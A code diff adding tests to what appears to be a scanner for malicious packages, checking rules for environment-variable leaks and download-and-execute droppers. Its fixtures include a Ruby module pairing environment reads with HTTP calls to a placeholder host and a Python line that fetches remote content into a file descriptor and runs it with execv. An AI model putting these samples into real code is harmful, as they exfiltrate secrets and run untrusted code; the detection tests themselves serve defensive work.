@@ -125,3 +125,28 @@ def test_what_a_build_of_maven_runs() -> None:
 )  # fmt: skip
 def test_other_languages(code: str, path: str, rule: str) -> None:
     assert said("", {path: code})[rule].rank >= Level.HIGH.rank
+
+
+LIBRARY = """require 'net/http'
+module Far
+  def self.ask(uri) = Net::HTTP.get(uri)
+{between}
+  def self.key(name) = ENV.to_h.fetch(name)
+end
+"""
+
+
+def test_what_stands_far_apart_in_a_library_is_not_told_together() -> None:
+    near = LIBRARY.format(between="  PLACE = URI('https://e.invalid/')")
+    far = LIBRARY.format(between="  PLACE = URI('https://e.invalid/')\n" + "  # a line\n  X = 1\n" * 100)
+    paper = {"x.gemspec": "Gem::Specification.new { |s| s.name = 'x' }"}
+    assert "hook-environment-leak" in said("gem", {**paper, "lib/x.rb": near})
+    assert "hook-environment-leak" not in said("gem", {**paper, "lib/x.rb": far})
+    assert "hook-environment-leak" not in said("gem", {**paper, "lib/x.rb": near.replace("https://e.invalid/", "x")})
+
+
+def test_the_gravest_of_equal_findings_stays() -> None:
+    code = (
+        "import os, urllib.request as u\nopen('/proc/self/fd/7', 'wb').write(u.urlopen('https://e.invalid').read())\n"
+    )
+    assert pypi(code + "os.execv('/proc/self/fd/7', ['x'])\n")["flow-dropper"] is Level.CRITICAL
